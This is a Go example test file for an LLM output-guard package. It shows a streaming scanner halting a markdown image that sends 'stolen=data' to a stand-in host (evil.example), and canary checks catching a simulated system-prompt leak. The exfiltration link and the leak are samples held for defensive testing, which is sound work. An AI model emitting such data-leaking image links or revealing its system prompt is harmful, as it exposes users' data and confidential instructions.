package output_test

import (
	"fmt"

	"github.com/llmaas/llmaas-go/guard/output"
)

func Example() {
	rules, err := output.New(output.Options{AllowHosts: []string{"intranet.example"}})
	if err != nil {
		fmt.Println(err)
		return
	}
	scanner := rules.Scanner()
	answer := []string{"Here it is: ", "![chart](https://intr", "anet.example/c?id=7) and ![", "x](https://evil.exam", "ple/?stolen=data) Done."}
	for _, chunk := range answer {
		release, found := scanner.Write([]byte(chunk))
		if len(found) > 0 {
			fmt.Println("stopped:", found[0].Rule)
			return
		}
		fmt.Printf("%q\n", release)
	}
	// Output:
	// "Here it is: "
	// "![chart"
	// "](https://intranet.example/c?id=7) and !["
	// "x"
	// stopped: output/image-data
}

func ExampleMintCanary() {
	canary := output.MintCanary()
	system := output.EmbedCanary("You are a helpful assistant.", canary)
	rules, err := output.New(output.Options{Canaries: []string{canary}, SystemPrompt: system})
	if err != nil {
		fmt.Println(err)
		return
	}
	scanner := rules.Scanner()
	_, found := scanner.Write([]byte("My instructions: " + system))
	for _, f := range found {
		fmt.Println(f.Rule, f.Severity)
	}
	// Output:
	// output/canary critical
	// output/system-prompt high
}
